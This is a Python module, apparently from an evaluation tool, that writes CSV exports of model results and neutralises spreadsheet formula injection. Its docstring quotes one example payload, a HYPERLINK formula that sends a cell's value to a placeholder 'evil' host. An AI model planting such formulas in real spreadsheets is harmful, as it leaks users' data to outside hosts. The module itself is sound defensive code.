"""CSV a spreadsheet cannot be tricked by (CSV/formula injection, per OWASP).

Model outputs, questions and error texts are tenant- or model-written; a cell such as
`=HYPERLINK("http://evil/?"&A1)` would run as a formula where the CSV is opened. So a
text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
`'`, which the spreadsheet shows as text and never evaluates. Numbers lse computes
(scores, token counts, latencies) are written as numbers: a value that is an int or a
float is not text anyone typed. Quotes and separators inside cells are the csv module's
job. Every CSV lse offers goes through `to_csv`: `lse eval show --format csv`, the API's
`GET /evaluations/{id}/results.csv` and the viewer's download.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from lse.evals.schemas import RunDetail

RESULT_COLUMNS = (
    "position",
    "question_id",
    "duplicate_index",
    "question",
    "expected_answer",
    "output",
    "status",
    "score",
    "score_status",
    "error",
    "error_code",
    "input_tokens",
    "cached_tokens",
    "output_tokens",
    "reasoning_tokens",
    "latency_ms",
    "attempts",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as written: text that would start a formula is prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, (int, float)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def to_csv(columns: Sequence[str], rows: Iterable[dict[str, Any]], *, lineterminator: str = "\r\n") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=lineterminator)
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(c)) for c in columns])
    return buf.getvalue()


def results_csv(run: RunDetail) -> str:
    """Every item of `run` (with results loaded), in dataset order."""
    return to_csv(RESULT_COLUMNS, (r.model_dump() for r in run.results or []), lineterminator="\n")
